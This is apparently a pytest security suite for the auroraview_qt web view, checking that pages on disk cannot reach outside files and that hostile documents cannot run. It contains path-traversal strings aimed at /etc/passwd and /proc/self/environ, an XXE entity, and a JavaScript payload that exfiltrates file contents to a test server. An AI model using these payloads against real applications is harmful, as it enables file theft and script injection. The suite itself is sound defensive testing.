"""Files on disk from unknown authors, and pages on disk that look for other files."""

from __future__ import annotations

import json
import os

import pytest

from auroraview_qt import QtWebView
from auroraview_qt.qt.support.binding import QtCore
from tests.security.web_server import WebServer

HOST = "https://auroraview.localhost"


def url_of(path):
    encoded = QtCore.QUrl.fromLocalFile(str(path)).path(QtCore.QUrl.ComponentFormattingOption.FullyEncoded)
    return f"{HOST}/file{encoded}"


def link(place, target):
    try:
        place.symlink_to(target)
    except OSError:
        pytest.skip("this system lets us make no symlinks")


# A page on disk and the files around it

#: Ways of a page to read a file; each ends with a text.
READS = {
    "request": "request.onloadend = () => done(request.responseText); request.open('GET', url); request.send()",
    "frame": "element('iframe', {src: url}, (e) => done(e.contentDocument.documentElement.textContent))",
    "script": "element('script', {src: url}, () => done(window.leaked))",
    "style": "element('link', {rel: 'stylesheet', href: url}, (e) => done([...e.sheet.cssRules].map((r) => r.cssText)))",
    "picture": "element('img', {src: url}, (e) => done(e.naturalWidth === 77 && 'SECRET'))",
    "worker": """const text = `const x = new XMLHttpRequest(); x.onloadend = () => postMessage(x.responseText);
        try { x.open('GET', '${new URL(url, location)}'); x.send(); } catch (e) { postMessage('') }`;
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = (e) => done(e.data); worker.onerror = () => done('')""",
}
READ = """(window.got = null, (() => {{
    const url = {url}, request = new XMLHttpRequest();
    const done = (text) => {{ got = [String(text || '')] }};
    const safe = (look, made) => {{ try {{ look(made); }} catch (error) {{ done(''); }} }};
    const element = (name, properties, look) => {{
        const made = Object.assign(document.createElement(name), properties);
        made.onload = made.onerror = () => safe(look, made);
        document.documentElement.append(made);
    }};
    safe(() => {{ {way} }});
}})(), 1)"""
SECRETS = {
    "plan.txt": "SECRET",
    "plan.js": "window.leaked = 'SECRET'",
    "plan.css": "secret { content: 'SECRET' }",
    "plan.svg": "<svg xmlns='http://www.w3.org/2000/svg' width='77' height='5'>SECRET</svg>",
    "plan.html": "<p>SECRET",
}


@pytest.fixture
def read(js, wait_until):
    """Read a URL in a page in every way; return the texts with the secret, by way."""

    def read(view, url, ways=tuple(READS)):
        found = {}
        for way in ways:
            js(view, READ.format(url=json.dumps(url), way=READS[way]))
            if way == "frame" and not url.startswith((".", "/", "out", "leak", "loop", "plan", "http")):
                # Such a frame never ends: it would have shown its content before the end of the next request.
                js(view, READ.format(url="'/nothing'", way=READS["request"]))
            wait_until(lambda: js(view, "got") is not None, f"{way} of {url}")
            text = js(view, "got")[0]
            if "SECRET" in text:
                found[way] = text
        return found

    return read


@pytest.fixture
def page_on_disk(make_view, wait_until, expect_log, tmp_path):
    """A view with a page of load_file, beside a folder of secrets."""
    expect_log("")
    for folder in ("ui", "closed"):
        (tmp_path / folder).mkdir()
        for name, text in SECRETS.items():
            (tmp_path / folder / name).write_text(text)
    (tmp_path / "ui" / "page.html").write_text("<title>ui</title><body>")

    def load(kind=None, **keywords):
        view = make_view(**({"kind": kind} if kind else {}), **keywords)
        view.load_file(tmp_path / "ui" / "page.html")
        wait_until(lambda: view.is_ready and view.title() == "ui")
        return view

    return load


def outside(tmp_path):
    """URLs of files that are not the page's, in all spellings."""
    closed, path = tmp_path / "closed", (tmp_path / "closed").as_posix()
    for name in SECRETS:
        yield f"../closed/{name}"
        yield (closed / name).as_uri()
        yield url_of(closed / name)
    yield from (
        f"{path}/plan.txt",
        "..%2fclosed%2fplan.txt",
        "%2e%2e/closed/plan.txt",
        "..\\closed\\plan.txt",
        "..%5cclosed%5cplan.txt",
        "./.././closed/./plan.txt",
        "x/..%2f..%2fclosed/plan.txt",
        "out/plan.txt",
        "out/plan.js",
        "leak.txt",
        "leak.js",
        "loop/..%2f..%2fclosed%2fplan.txt",
        "loop/x/../../../closed/plan.txt",
        f"/__auroraview_file__{path}/plan.txt",
        f"/__auroraview_file__/{path}/plan.txt",
        f"/__auroraview_file__//{path}/plan.js",
        f"/__auroraview_script__/{path}/plan.js",
        f"/__auroraview_script__/{'0' * 32}{path}/plan.js",
        f"file://localhost{path}/plan.txt",
        f"file:{path}/plan.txt",
        f"view-source:file://{path}/plan.txt",
        f"filesystem:file://{path}/plan.txt",
        closed.as_uri() + "/",
        tmp_path.as_uri() + "/",
        "file:///etc/passwd",
        "file:///proc/self/environ",
    )


@pytest.mark.parametrize("kind", [None, QtWebView])
def test_page_on_disk_reads_no_file_outside_its_folder(page_on_disk, read, tmp_path, kind):
    ui = tmp_path / "ui"
    link(ui / "out", tmp_path / "closed")
    link(ui / "leak.txt", tmp_path / "closed" / "plan.txt")
    link(ui / "leak.js", tmp_path / "closed" / "plan.js")
    link(ui / "loop", ui / "loop")
    view = page_on_disk(kind)
    for url in outside(tmp_path):
        ways = ("request", "frame") if url.endswith((".txt", "/", "passwd", "environ")) else tuple(READS)
        assert read(view, url, ways) == {}, url


def test_page_on_disk_reads_its_own_folder(page_on_disk, read, tmp_path):
    view = page_on_disk()
    (tmp_path / "ui" / "sub").mkdir()
    (tmp_path / "ui" / "sub" / "plan.txt").write_text("SECRET")
    link(tmp_path / "ui" / "inside", tmp_path / "ui" / "sub")
    for url in (
        "plan.txt",
        "sub/plan.txt",
        "sub/../plan.txt",
        "inside/plan.txt",
        "../ui/plan.txt",
        url_of(tmp_path / "ui" / "plan.txt"),
    ):
        assert "request" in read(view, url, ("request", "worker")), url
    assert "script" in read(view, "plan.js", ("script",))
    assert "style" in read(view, "plan.css", ("style",))
    assert "picture" in read(view, "plan.svg", ("picture",))
    assert "frame" in read(view, "plan.html", ("frame",))


def test_page_on_disk_reads_what_scopes_allow(page_on_disk, js, read, tmp_path):
    view = page_on_disk()
    view.allow_files(tmp_path / "closed")
    for url in ("../closed/", url_of(tmp_path / "closed") + "/"):
        assert set(read(view, url + "plan.txt", ("request", "worker"))) == {"request", "worker"}
        assert set(read(view, url + "plan.svg", ("picture",))) == {"picture"}
        assert js(view, "leaked") if read(view, url + "plan.js", ("script",)) else False
    view.allow_files()
    js(view, "delete window.leaked")
    for name in SECRETS:
        assert read(view, f"../closed/{name}") == {}


def test_page_on_disk_reads_no_folder_of_an_earlier_page(page_on_disk, read, wait_until, tmp_path):
    (tmp_path / "later").mkdir()
    (tmp_path / "later" / "page.html").write_text("<title>later</title><body>")
    view = page_on_disk()
    view.load_file(tmp_path / "later" / "page.html")
    wait_until(lambda: view.title() == "later" and view.is_ready)
    for name in SECRETS:
        assert read(view, f"../ui/{name}") == {}
    view.load_html("<title>html</title><body>")
    wait_until(lambda: view.title() == "html" and view.is_ready)
    assert read(view, f"/__auroraview_file__{(tmp_path / 'ui').as_posix()}/plan.txt") == {}


def test_page_at_a_local_address_reads_nothing_at_all(make_view, js, wait_until, expect_log, read, tmp_path):
    expect_log("")
    for folder in ("ui", "closed"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "plan.txt").write_text("SECRET")
    (tmp_path / "ui" / "page.html").write_text("<title>ui</title><body>")
    view = make_view()
    view.load(QtCore.QUrl.fromLocalFile(str(tmp_path / "ui" / "page.html")))
    wait_until(lambda: view.title() == "ui")
    for url in (tmp_path.joinpath("closed", "plan.txt").as_uri(), "../closed/plan.txt", "plan.txt", tmp_path.as_uri() + "/"):
        assert read(view, url, ("request", "worker")) == {}, url
    assert js(view, "typeof auroraview") == "undefined"


# Documents and pictures from a folder that a page may read

_STEAL = """
    const tell = (what) => {{ try {{ parent.postMessage(what, '*'); top.postMessage(what, '*'); }} catch (e) {{}} }};
    tell('ran');
    try {{ new Image().src = '{server}/ran'; }} catch (e) {{}}
    try {{ parent.auroraview.emit('stolen', 1); }} catch (e) {{}}
    try {{ location.href = '{server}/moved'; }} catch (e) {{}}
    try {{ top.location.href = '{server}/top'; }} catch (e) {{}}
    try {{ const x = new XMLHttpRequest(); x.open('GET', 'plan.txt');
        x.onload = () => {{ new Image().src = '{server}/out?' + x.responseText; }}; x.send(); }} catch (e) {{}}
    try {{ navigator.sendBeacon('{server}/beacon', 'x'); }} catch (e) {{}}
    try {{ window.open('{server}/window'); }} catch (e) {{}}
    try {{ new Worker(URL.createObjectURL(new Blob(["importScripts('{server}/worker')"]))); }} catch (e) {{}}
"""
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='7' onload=\"{quoted}\">"
_HTML = """<link rel=stylesheet href='{server}/style'><link rel=prefetch href='{server}/prefetch'>
    <link rel=icon href='{server}/icon'><link rel=preload as=image href='{server}/preload'>
    <style>@import '{server}/import'; body {{ background: url({server}/background) }}
    @font-face {{ font-family: f; src: url({server}/font) }} p {{ font-family: f }}</style>
    <p>x<img src='{server}/picture' onerror="{quoted}"><iframe src='{server}/frame'></iframe>
    <embed src='{server}/embed'><object data='{server}/object'></object>
    <video src='{server}/film' autoplay></video><audio src='{server}/sound' autoplay></audio>
    <iframe srcdoc="<img src='{server}/srcdoc'><script>{quoted}</script>"></iframe>
    <iframe src="data:text/html,<img src='{server}/data'>"></iframe><iframe src="javascript:{quoted}"></iframe>
    <svg><image href='{server}/image'/><script>{script}</script></svg>
    <form id=f action='{server}/form'><input name=a value=b></form><script>{script}</script><script src=evil.js></script>
    <script type=module src=evil.js></script><script>f.submit()</script><body onload="{quoted}">"""
_XHTML = (
    "<html xmlns='http://www.w3.org/1999/xhtml'><body><script>{script}</script><img src='{server}/picture'/></body></html>"
)

#: Hostile files by their names.
FILES = {
    "a.svg": _SVG + "<script>{script}</script><image href='{server}/image'/><foreignObject>"
    "<body xmlns='http://www.w3.org/1999/xhtml'><img src='{server}/foreign'/></body></foreignObject></svg>",
    "outside.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script href='evil.js'/></svg>",
    "entity.svg": "<?xml-stylesheet href='{server}/sheet' type='text/css'?><!DOCTYPE svg [<!ENTITY e SYSTEM 'plan.txt'>]>"
    + _SVG
    + "<text>&amp;e;</text><script>{script}</script></svg>",
    "a.html": "<!doctype html>" + _HTML,
    "comment.html": "<!-- <head> --><script>{script}</script>" + _HTML,
    "prefix.html": "<script>{script}</script><!doctype html><head>" + _HTML,
    "refresh.html": "<meta http-equiv=refresh content='0;url={server}/refresh'>",
    "base.html": "<base href='{server}/base/'><img src=x><script src=y></script><a ping='{server}/ping' href=z>z</a>",
    "policy.html": "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline' *\">" + _HTML,
    "a.htm": _HTML,
    "A.HTML": _HTML,
    "a.shtml": _HTML,
    "a.xhtml": _XHTML,
    "a.xht": _XHTML,
    "a.xml": "<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{script}</h:script><h:img src='{server}/picture'/></x>",
    "sheet.xml": "<?xml-stylesheet type='text/xsl' href='a.xsl'?><x/>",
    "remote.xml": "<?xml-stylesheet type='text/xsl' href='{server}/xsl'?><x/>",
    "a.xsl": "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>"
    "<html><body><script>{script}</script></body></html></xsl:template></xsl:stylesheet>",
    "a.rss": "<rss xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{script}</h:script></rss>",
    "a.mht": "MIME-Version: 1.0\nContent-Type: text/html\n\n<script>{script}</script>",
    "a.txt": _HTML,
    "a.json": _HTML,
    "a.js": _HTML,
    "a.css": _HTML,
    "a.png": _HTML,
    "a.pdf": _HTML,
    "a.unknown": _HTML,
    "none": _HTML,
    "a.svgz": _SVG + "</svg>",
    "a.wasm": _HTML,
}


#: Refused as a download instead of shown; the frame does not report that.
DOWNLOADS = (".mht", ".unknown", "none", ".svgz", ".wasm", ".pdf")


@pytest.fixture
def hostile(tmp_path):
    """A folder with all hostile files, for a server."""

    def write(server):
        script = _STEAL.format(server=server)
        quoted = script.replace('"', "&quot;").replace("\n", " ")
        folder = tmp_path / "disk"
        folder.mkdir()
        for name, text in FILES.items():
            (folder / name).write_text(text.format(server=server, script=script, quoted=quoted))
        (folder / "plan.txt").write_text("CONFIDENTIAL")
        (folder / "evil.js").write_text(script)
        return folder

    return write


PAGE = "<title>page</title><body><script>window.told = []; window.ended = 0; onmessage = (e) => told.push(e.data)</script>"


def show_all(view, js, wait_until, urls, element="iframe"):
    """Show URLs in frames, in turn, and wait until each has ended."""
    for url in urls:
        attribute = {"iframe": "src", "object": "data", "embed": "src"}[element]
        before = js(view, "ended")
        js(
            view,
            f"""(frame = document.createElement({json.dumps(element)}), frame.onload = frame.onerror = () => {{ ended++ }},
            frame.setAttribute({json.dumps(attribute)}, {json.dumps(url)}), document.body.append(frame), 1)""",
        )
        if element == "iframe" and not url.endswith(DOWNLOADS):
            wait_until(lambda before=before: js(view, "ended") > before, url)


@pytest.mark.parametrize("shown", ["html", "assets", "file", "app"])
@pytest.mark.parametrize("place", ["url", "path"])
def test_document_from_disk_in_a_frame_does_nothing(make_view, js, wait_until, expect_log, hostile, tmp_path, shown, place):
    expect_log("")
    with WebServer() as server:
        folder = hostile(server.url)
        view, stolen = make_view(), []
        view.on("stolen", stolen.append)
        view.allow_files(folder)
        ui = tmp_path / "ui"
        ui.mkdir()
        (ui / "page.js").write_text("window.told = []; window.ended = 0; onmessage = (e) => told.push(e.data)")
        (ui / "index.html").write_text("<title>page</title><body><script src=page.js></script>")
        if shown == "html":
            view.load_html(PAGE)
        elif shown == "assets":
            view.serve_assets(ui)
            view.load_url(f"{HOST}/index.html")
        elif shown == "file":
            view.load_file(ui / "index.html")
        else:
            view.load_app(ui)
        wait_until(lambda: view.is_ready and js(view, "window.ended") == 0)
        base = url_of(folder) if place == "url" else f"/__auroraview_file__{folder.as_posix()}"
        show_all(view, js, wait_until, [f"{base}/{name}" for name in FILES])
        for element in ("object", "embed"):
            show_all(view, js, wait_until, [f"{base}/{name}" for name in ("a.svg", "a.html", "a.xml")], element)
        js(view, "(new Image().src = location.origin + '/end', 1)")  # requests that were made before
        assert (view.title(), js(view, "told"), stolen, server.seen) == ("page", [], [], [])


def test_document_from_disk_as_a_page_runs_and_sends_nothing(make_view, js, wait_until, expect_log, hostile):
    expect_log("")
    with WebServer() as server:
        folder = hostile(server.url)
        view, opened, stolen, loads = make_view(PAGE), [], [], []
        view.page().open_external = lambda url: opened.append(url.toString())
        view.on("stolen", stolen.append)
        view.allow_files(folder)
        view.loadFinished.connect(loads.append)
        for name in FILES:
            loads.clear()
            js(view, f"(location.href = {json.dumps(f'{url_of(folder)}/{name}')}, 1)")
            wait_until(lambda name=name: loads, name)
            js(view, "1")
            view.load_html("<title>after</title>")
            wait_until(lambda: view.title() == "after" and view.is_ready)
            assert (server.seen, opened, stolen) == ([], [], []), name


def test_document_beside_a_page_on_disk_runs_nothing(make_view, js, wait_until, expect_log, hostile):
    """Pages in the folder of load_file are the program's; pictures and data there are not programs."""
    expect_log("")
    with WebServer() as server:
        folder = hostile(server.url)
        (folder / "index.html").write_text(PAGE)
        view, stolen = make_view(), []
        view.page().open_external = lambda url: None
        view.on("stolen", stolen.append)
        view.load_file(folder / "index.html")
        wait_until(lambda: view.is_ready and js(view, "window.ended") == 0)
        pages = ("html", "HTML", "htm", "shtml", "xhtml", "xht")
        show_all(view, js, wait_until, [name for name in FILES if name.rpartition(".")[2] not in pages])
        assert (js(view, "told"), stolen, server.seen) == ([], [], [])
        show_all(view, js, wait_until, ["prefix.html"])  # the others would have done this
        wait_until(lambda: server.seen and stolen and js(view, "told"))


def test_picture_from_disk_is_shown_in_frames_and_elements(make_view, js, wait_until, tmp_path):
    (tmp_path / "a.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='7'/>")
    (tmp_path / "report.html").write_text("<style>p { color: rgb(1, 2, 3) }</style><p>text<img src=a.svg>")
    view = make_view(PAGE)
    view.allow_files(tmp_path)
    js(view, f"(image = new Image(), image.src = '{url_of(tmp_path)}/a.svg', document.body.append(image), 1)")
    wait_until(lambda: js(view, "image.naturalWidth") == 9)
    show_all(view, js, wait_until, [f"{url_of(tmp_path)}/a.svg", f"{url_of(tmp_path)}/report.html"])
    own = f"/__auroraview_file__{tmp_path.as_posix()}/a.svg"
    show_all(view, js, wait_until, [own])
    assert js(view, "document.querySelectorAll('iframe')[2].contentDocument.images[0].naturalWidth") == 9


# Scripts from disk under the policy of an app

SCRIPTS = {
    "element": "element({src: url})",
    "module": "element({type: 'module', src: url})",
    "worker": "new Worker(url)",
    "module worker": "new Worker(url, {type: 'module'})",
    "shared worker": "new SharedWorker(url)",
    "import": "import(new URL(url, location)).catch(() => 0)",
    "worklet": "CSS.paintWorklet && CSS.paintWorklet.addModule(url).catch(() => 0)",
    "preloaded": "element({src: url, crossOrigin: 'anonymous'})",
}
RUN = """(() => {{
    const url = {url};
    const element = (properties) => {{
        const made = Object.assign(document.createElement('script'), properties);
        made.onload = made.onerror = () => {{ window.ended += 1; }};
        document.head.append(made);
    }};
    try {{ {way}; }} catch (error) {{ return 0; }}
    return 1;
}})()"""


@pytest.mark.parametrize("place", ["url", "path", "text", "disk"])
def test_script_from_disk_does_not_run_in_an_app(make_view, js, wait_until, expect_log, tmp_path, place):
    expect_log("")
    names = ["notes.js", "notes.mjs", "NOTES.JS", "notes.txt", "notes.json", "notes.html", "notes.unknown", "notes"]
    (tmp_path / "disk").mkdir()
    for name in names:
        (tmp_path / "disk" / name).write_text(
            "self.ran = 1; try { auroraview.emit('ran', 1) } catch (e) {}"
            "const x = new XMLHttpRequest(); x.open('GET', location.origin + '/ran'); x.send()"
        )
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "index.html").write_text("<title>app</title><script src=app.js></script>")
    (tmp_path / "app" / "app.js").write_text("window.ended = 0; window.own = 1")
    (tmp_path / "app" / "imports.js").write_text(
        "onmessage = (e) => { try { importScripts(e.data); } catch (error) {} postMessage(typeof ran); }"
    )
    view, heard, asked = make_view(), [], []
    view.on("ran", heard.append)
    view.enable("fs", roots=[tmp_path / "disk"])
    view.load_app(tmp_path / "app")
    wait_until(lambda: view.is_ready and js(view, "window.own || 0") == 1)
    site = view._local_urls._site
    real_get = site.get
    site.get = lambda path, use: (asked.append(path), real_get(path, use))[1]
    folder = (tmp_path / "disk").as_posix()
    places = {"url": url_of(tmp_path / "disk"), "disk": view._local_urls._disk + folder}
    base = places.get(place, site.files_path[:-1] + folder)
    for name in names:
        url = json.dumps(f"{base}/{name}{'/text' if place == 'text' else ''}")
        js(view, "(window.ended = 0, 1)")
        for way, source in SCRIPTS.items():
            js(view, RUN.format(url=url, way=source))
            assert js(view, "typeof ran") == "undefined", (name, way)
        wait_until(lambda: js(view, "ended") == 3)  # frames that report their end
        js(
            view,
            f"""(worker = new Worker('imports.js'), worker.onmessage = (e) => {{ ended = e.data }},
            worker.postMessage(new URL({url}, location).href), 1)""",
        )
        wait_until(lambda: isinstance(js(view, "ended"), str))
        assert (js(view, "[ended, typeof ran]"), heard, "/ran" in asked) == (["undefined"] * 2, [], False), name


def test_script_from_disk_does_not_run_in_an_app_of_a_development_server(make_view, js, wait_until, expect_log, tmp_path):
    expect_log("no script for this page")
    expect_log('will refuse the inline script "window.ended = 0"')
    expect_log("Refused to load the script")
    expect_log("script-src access to https://auroraview.localhost refused")
    (tmp_path / "notes.js").write_text("window.ran = 1")
    with WebServer({"/": "<title>dev</title><script>window.ended = 0</script>"}) as server:
        view = make_view()
        view.allow_files(tmp_path)
        view.load_app(tmp_path, dev_url=server.url)
        wait_until(lambda: view.is_ready and js(view, "ended") == 0)
        js(view, RUN.format(url=json.dumps(f"{url_of(tmp_path)}/notes.js"), way=SCRIPTS["element"]))
        wait_until(lambda: js(view, "ended") == 1)
        assert js(view, "typeof ran") == "undefined"


@pytest.mark.parametrize("shown", ["html", "assets", "file"])
def test_script_from_disk_runs_in_the_other_pages_as_auroraview_has_it(make_view, js, wait_until, tmp_path, shown):
    for name in ("disk", "ui"):
        (tmp_path / name).mkdir()
    (tmp_path / "disk" / "notes.js").write_text("window.ran = 1")
    page = f"<title>ui</title><script src='{url_of(tmp_path / 'disk')}/notes.js'></script>"
    (tmp_path / "ui" / "index.html").write_text(page)
    view = make_view()
    view.allow_files(tmp_path / "disk")
    if shown == "html":
        view.load_html(page)
    elif shown == "file":
        view.load_file(tmp_path / "ui" / "index.html")
    else:
        view.serve_assets(tmp_path / "ui")
        view.load_url(f"{HOST}/index.html")
    wait_until(lambda: view.is_ready and js(view, "window.ran || 0") == 1)


@pytest.mark.skipif(os.name == "nt", reason="names are texts there")
def test_url_of_a_name_that_is_no_text_hits_no_other_file(make_view, js, wait_until, expect_log, tmp_path):
    """A browser writes U+FFFD into a URL for a lone surrogate."""
    expect_log("")
    for name in ("caf\udce9.txt", "caf\ufffd.txt"):
        (tmp_path / name).write_text(ascii(name))
    view = make_view()
    view.enable("fs", roots=[tmp_path])
    view.load_html("<p>")
    wait_until(lambda: view.is_ready)
    js(
        view,
        f"""(got = null, auroraview.fs.readDir({json.dumps(str(tmp_path))}).then((all) => Promise.all(all.map((entry) =>
        new Promise((done) => {{ const x = new XMLHttpRequest();
        x.onloadend = () => done([escape(entry.name), x.responseText]);
        x.open('GET', '{HOST}/file' + entry.path); x.send(); }})))).then((all) => {{ got = all }}), 1)""",
    )
    wait_until(lambda: js(view, "got") is not None)
    assert sorted(js(view, "got")) == [["caf%uDCE9.txt", ""], ["caf%uFFFD.txt", ""]]
